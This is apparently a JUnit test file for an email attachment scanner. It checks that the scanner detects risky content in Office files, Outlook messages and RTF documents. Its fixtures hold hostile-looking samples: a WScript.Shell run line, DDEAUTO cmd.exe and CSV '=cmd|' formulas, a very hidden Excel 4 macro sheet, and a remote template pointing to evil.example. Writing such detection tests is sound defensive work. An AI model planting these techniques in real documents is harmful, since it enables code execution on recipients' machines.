package org.streamail.detect.content.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.streamail.detect.content.internal.ExecutableDetectionTest.only;
import static org.streamail.detect.content.internal.Samples.*;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.streamail.api.model.Finding;

class OfficeTest {
    private static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    static byte[] vbaProject() {
        return new CfbWriter().storage("VBA").stream("_VBA_PROJECT", new byte[] {(byte) 0xCC, 0x61, 0, 0})
                .stream("dir", new byte[100]).stream("PROJECT", utf8("ID=\"{0}\"\r\nModule=Module1\r\n")).build();
    }

    @Test
    void theAttachmentsOfAnOutlookMsgAreScanned() {
        // Outlook opens an attached .msg and offers its attachments: PidTagAttachDataBinary (3701, binary) holds
        // each file, PidTagAttachLongFilename (3707) / PidTagAttachFilename (3704) its name.
        byte[] msg = new CfbWriter().stream("__substg1.0_0037001F", "Invoice".getBytes(StandardCharsets.UTF_16LE))
                .storage("__attach_version1.0_#00000000")
                .stream("__substg1.0_3707001F", "invoice.js".getBytes(StandardCharsets.UTF_16LE))
                .stream("__substg1.0_37010102", utf8("new ActiveXObject('WScript.Shell').Run('calc')"))
                .storage("__attach_version1.0_#00000001")
                .stream("__substg1.0_3704001E", utf8("REPORT.PDF\0"))
                .stream("__substg1.0_37010102", pe())
                .build();
        List<Finding> f = scanAttachment("Invoice.msg", "application/vnd.ms-outlook", msg);
        assertThat(f).filteredOn(x -> x.rule().equals("executable")).extracting(Finding::part)
                .contains("Invoice.msg!/invoice.js").anyMatch(p -> p.startsWith("Invoice.msg!/attachment"));
        byte[] plain = new CfbWriter().stream("__substg1.0_0037001F", "Hi".getBytes(StandardCharsets.UTF_16LE))
                .storage("__attach_version1.0_#00000000")
                .stream("__substg1.0_3707001F", "notes.txt".getBytes(StandardCharsets.UTF_16LE))
                .stream("__substg1.0_37010102", utf8("just notes")).build();
        assertThat(scanAttachment("Hi.msg", "application/vnd.ms-outlook", plain)).isEmpty();
    }

    @Test
    void aDocxWithoutMacrosIsClean() {
        assertThat(scanAttachment("letter.docx", DOCX, docx(paragraph("Dear customer, your order has shipped."))))
                .isEmpty();
    }

    @Test
    void aVbaProjectInOoxmlIsAnOfficeMacro() {
        byte[] docm = docx(paragraph("Enable content"), "word/vbaProject.bin", vbaProject());
        Finding f = only(scanAttachment("order.docm", DOCX, docm), "office-macro");
        assertThat(f.part()).isEqualTo("order.docm!/word/vbaProject.bin");
    }

    @Test
    void aVbaProjectInAnOle2DocumentIsAnOfficeMacro() {
        byte[] doc = new CfbWriter().stream("WordDocument", wordFib(false)).storage("Macros").storage("VBA")
                .stream("_VBA_PROJECT", new byte[8]).build();
        List<Finding> f = scanAttachment("order.doc", "application/msword", doc);
        assertThat(only(f, "office-macro").part()).isEqualTo("order.doc");
        assertThat(OfficeTest.rulesOf(f)).doesNotContain("encrypted-archive");
    }

    static List<String> rulesOf(List<Finding> f) {
        return rules(f);
    }

    static byte[] wordFib(boolean encrypted) {
        var b = le(5000);
        b.putShort((short) 0xA5EC).putShort((short) 0xC1).position(0x0A);
        b.putShort((short) (encrypted ? 0x0100 : 0));
        return b.array();
    }

    @Test
    void excel4MacroSheetsAreFoundInXlsAndXlsm() {
        // BIFF8 globals: BOF, BOUNDSHEET (very hidden macro sheet "Auto"), EOF.
        var w = le(64);
        w.putShort((short) 0x0809).putShort((short) 4).putInt(0);
        w.putShort((short) 0x0085).putShort((short) 12).putInt(0).put((byte) 2).put((byte) 1).put((byte) 4)
                .put((byte) 0).put(utf8("Auto"));
        w.putShort((short) 0x000A).putShort((short) 0);
        byte[] xls = new CfbWriter().stream("Workbook", w.array()).build();
        assertThat(only(scanAttachment("prices.xls", "application/vnd.ms-excel", xls), "excel4-macro").detail())
                .contains("'Auto'").contains("very hidden");
        byte[] xlsm = zip(entries("[Content_Types].xml", CONTENT_TYPES, "xl/workbook.xml", "<workbook/>",
                "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>"));
        assertThat(only(scanAttachment("prices.xlsm", XLSX, xlsm), "excel4-macro").part()).isEqualTo("prices.xlsm");
    }

    @Test
    void ddeFieldsAreFoundInDocxXlsxAndCsv() {
        String field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">"
                + " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r></w:p>";
        List<Finding> f = scanAttachment("memo.docx", DOCX, docx(field));
        assertThat(only(f, "dde").detail()).contains("DDEAUTO");
        byte[] xlsx = zip(entries("[Content_Types].xml", CONTENT_TYPES, "xl/externalLinks/externalLink1.xml",
                "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"));
        assertThat(only(scanAttachment("book.xlsx", XLSX, xlsx), "dde").detail()).contains("externalLink1");
        assertThat(rules(scanAttachment("data.csv", "text/csv",
                utf8("name,value\n=cmd|' /C calc'!A0,1\n")))).contains("dde");
    }

    @Test
    void aDocxWithAnOrdinaryFieldHasNoDde() {
        String field = "<w:p><w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r></w:p>";
        assertThat(scanAttachment("memo.docx", DOCX, docx(field))).isEmpty();
    }

    @Test
    void anOlePackageIsReportedAndItsPayloadScanned() {
        byte[] payload = pe();
        byte[] label = utf8("invoice.exe\0");
        byte[] src = utf8("C:\\tmp\\invoice.exe\0");
        var s = le(4 + 2 + label.length + src.length + 4 + 4 + src.length + 4 + payload.length);
        s.putInt(0).putShort((short) 2).put(label).put(src).putInt(0x00030000).putInt(src.length).put(src)
                .putInt(payload.length).put(payload);
        byte[] ole = new CfbWriter().stream("\u0001Ole10Native", s.array()).build();
        byte[] docx = docx(paragraph("see attached"), "word/embeddings/oleObject1.bin", ole);
        List<Finding> f = scanAttachment("offer.docx", DOCX, docx);
        assertThat(only(f, "ole-package").detail()).contains("invoice.exe");
        assertThat(only(f, "executable").part()).isEqualTo("offer.docx!/word/embeddings/oleObject1.bin!/invoice.exe");
    }

    @Test
    void anExternalAttachedTemplateIsRemoteTemplateInjection() {
        String rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>"
                + "</Relationships>";
        List<Finding> f = scanAttachment("cv.docx", DOCX, docx(paragraph("CV"), "word/_rels/settings.xml.rels", rels));
        assertThat(only(f, "remote-template").detail()).contains("https://evil.example/t.dotm");
    }

    @Test
    void anExternalHyperlinkIsNotATemplate() {
        String rels = "<Relationships><Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/hyperlink\" Target=\"https://example.com/\" TargetMode=\"External\"/>"
                + "</Relationships>";
        assertThat(scanAttachment("a.docx", DOCX, docx(paragraph("x"), "word/_rels/document.xml.rels", rels)))
                .isEmpty();
    }

    @Test
    void rtfWithAnEmbeddedObjectIsReported() {
        String rtf = "{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}";
        List<Finding> f = scanAttachment("doc.rtf", "application/rtf", rtf.getBytes(StandardCharsets.US_ASCII));
        assertThat(only(f, "rtf-object").detail()).contains("equation.3");
        assertThat(scanAttachment("plain.rtf", "application/rtf", utf8("{\\rtf1\\ansi Hello \\b world\\b0}")))
                .isEmpty();
    }

    @Test
    void passwordProtectedOfficeDocumentsAreEncryptedArchives() {
        byte[] ooxml = new CfbWriter().stream("EncryptionInfo", new byte[200]).stream("EncryptedPackage", new byte[5000])
                .build();
        assertThat(only(scanAttachment("salary.xlsx", XLSX, ooxml), "encrypted-archive").part())
                .isEqualTo("salary.xlsx");
        byte[] doc = new CfbWriter().stream("WordDocument", wordFib(true)).build();
        assertThat(rules(scanAttachment("secret.doc", "application/msword", doc))).contains("encrypted-archive");
    }
}
